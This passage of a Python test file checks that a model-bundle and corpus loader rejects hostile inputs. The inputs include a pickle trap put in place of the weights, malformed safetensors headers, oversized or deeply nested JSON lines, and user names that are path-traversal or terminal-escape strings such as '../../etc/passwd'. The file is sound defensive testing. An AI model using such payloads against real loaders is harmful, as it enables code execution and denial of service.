    assert (tmp_path / "sprung").exists()  # it would have sprung


def replace_weights(bundle: Path, data: bytes) -> None:
    """Other weights, with their checksum: whoever makes a bundle makes that too."""
    (bundle / bundles.WEIGHTS).write_bytes(data)
    path = bundle / bundles.SETTINGS
    settings = json.loads(path.read_text())
    settings["sha256"][bundles.WEIGHTS] = hashlib.sha256(data).hexdigest()
    path.write_text(json.dumps(settings))


def test_a_pickle_in_place_of_the_weights_is_not_unpickled(bundle: Path, tmp_path: Path) -> None:
    replace_weights(bundle, pickle.dumps(Trap(tmp_path / "sprung")))
    with pytest.raises(BadBundle):
        load_bundle(bundle)
    assert not (tmp_path / "sprung").exists()


WEIGHTS: dict[str, Callable[[bytes], bytes]] = {
    "empty": lambda w: b"",
    "a header longer than the file": lambda w: struct.pack("<Q", len(w) * 2) + w[8:],
    "a header of 2**63 bytes": lambda w: struct.pack("<Q", 2**63) + w[8:],
    "a header of 2**64 - 1 bytes": lambda w: struct.pack("<Q", 2**64 - 1) + w[8:],
    "a header a byte short": lambda w: struct.pack("<Q", struct.unpack("<Q", w[:8])[0] - 1) + w[8:],
    "a header a byte long": lambda w: struct.pack("<Q", struct.unpack("<Q", w[:8])[0] + 1) + w[8:],
    "a header that is deep": lambda w: safetensors(b"[" * 100_000),
    "a header that is no JSON": lambda w: safetensors(b"]["),
    "cut short": lambda w: w[:-4],
    "longer": lambda w: w + b"\0" * 4,
    "offsets beyond the end": lambda w: safetensors(
        {"out.bias": {"dtype": "F32", "shape": [5], "data_offsets": [0, 2**40]}}
    ),
    "one tensor less": lambda w: save({"out.bias": np.zeros(5, np.float32)}),
    "half precision": lambda w: save({"out.bias": np.zeros(5, np.float16)}),
    "eight bits": lambda w: safetensors(
        {"out.bias": {"dtype": "F8_E4M3", "shape": [5], "data_offsets": [0, 5]}}, bytes(5)
    ),
}


@pytest.mark.parametrize("damage", WEIGHTS.values(), ids=WEIGHTS)
def test_weights_that_are_none_are_a_bad_bundle(
    bundle: Path, damage: Callable[[bytes], bytes]
) -> None:
    load_bundle(bundle)
    replace_weights(bundle, damage((bundle / bundles.WEIGHTS).read_bytes()))
    with pytest.raises(BadBundle) as error:
        load_bundle(bundle)
    assert len(error.value.message) < 500


def test_a_worker_with_rows_for_more_users_than_it_has_is_noticed(
    bundle: Path, corpus: Corpus, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In an evaluation, rows are given to users by their places alone."""
    found = load_bundle(bundle)
    plan = EvaluatePlan(found.config, found.vocabulary.words, rows=True)
    lie = claims(plan, EVALUATE, users=4, counts=np.zeros((4, len(COLUMNS))))
    send = channel.Channel.send

    def lying(self: Any, peer: str, name: str, out: bytes) -> int:
        return send(self, peer, name, lie(out) if self.email == WORKER else out)

    monkeypatch.setattr(channel.Channel, "send", lying)
    with pytest.raises(BadMessage, match="worker-1 has 3 users, and counts of 4"):
        evaluate_bundle(corpus, bundle, EvaluateOptions(workers=2, processes=1))


# ------------------------------------------------------------------------------------ an evil corpus

LONG = 50_000_000
CORPORA: dict[str, Callable[[], bytes]] = {
    "a long line that is no JSON": lambda: b"x" * (LONG // 10),
    "a long line that does not end": lambda: b'{"user": "a", "text": "' + b"x" * LONG,
    "a long line of brackets": lambda: b"[" * (LONG // 10),
    "a long line of objects": lambda: b'{"a":' * (LONG // 50),
    "nested text": lambda: b'{"user": "a", "text": ' + b"[" * 10**6 + b"]" * 10**6 + b"}",
    "a number of many digits": lambda: b'{"user": "a", "text": "b", "n": ' + b"9" * 10**6 + b"}",
    "bytes that are no UTF-8": lambda: b'{"user": "a", "text": "\xff"}',
    "zeros": lambda: bytes(10**6),
    "a time that is none": lambda: b'{"user": "a", "text": "b", "time": "' + b"9" * 10**6 + b'"}',
    "a user that is a list": lambda: b'{"user": ["a"], "text": "b"}',
}


@pytest.mark.parametrize("make", CORPORA.values(), ids=CORPORA)
def test_a_line_that_is_none_is_a_bad_corpus_and_can_be_left_out(
    tmp_path: Path, make: Callable[[], bytes]
) -> None:
    good = b'{"user": "a", "text": "a good line"}\n'
    path = tmp_path / "corpus.jsonl"
    path.write_bytes(good + make() + b"\n" + good)
    with pytest.raises(BadCorpus, match=r"corpus\.jsonl, line 2: ") as error:
        load_corpus(str(path))
    assert "--skip-bad-lines" in error.value.hint
    assert len(error.value.message) < 500
    corpus = load_corpus(str(path), skip_bad_lines=True)
    assert corpus.users == {"a": ("a good line", "a good line")}
    assert corpus.skipped in ({"bad line": 1}, {"line too long": 1})


def test_a_user_whose_name_is_a_path_stays_a_name(
    plan: TrainPlan, weights: FloatArray, corpus: Corpus
) -> None:
    names = ("../../etc/passwd", "/root", "a\nb", "\x1b[31m")
    texts = next(iter(corpus.users.values()))
    evil = Corpus("evil", dict.fromkeys(sorted(names), texts))
    with Simulation(evil, {"worker-1": tuple(sorted(names))}, InProcess()) as simulation:
        job = simulation.submit(replace(plan, workers={"worker-1": 4}), "train")
        arrays = {"weights": weights, "users": np.arange(4)}
        replies = simulation.exchange(job)(TRAIN, 1, {"worker-1": Parcel(arrays=arrays)})
        assert replies.absent == {}
        assert replies.answers["worker-1"].fields["users"] == 4
